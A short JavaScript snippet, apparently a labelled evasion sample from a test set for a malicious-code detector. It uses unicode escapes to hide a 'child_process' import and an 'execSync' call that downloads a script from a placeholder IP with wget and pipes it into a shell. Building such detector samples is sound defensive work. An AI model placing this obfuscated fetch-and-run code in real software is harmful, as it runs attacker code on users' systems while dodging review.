// evasion: unicode escapes in an identifier and in the module string
// grade: hard; does: shell
const cp = require('\u0063hild_\u0070rocess');
cp.\u0065xec\u0053ync('wget -qO- http://198.51.100.9/p.sh | sh', { stdio: 'inherit' });
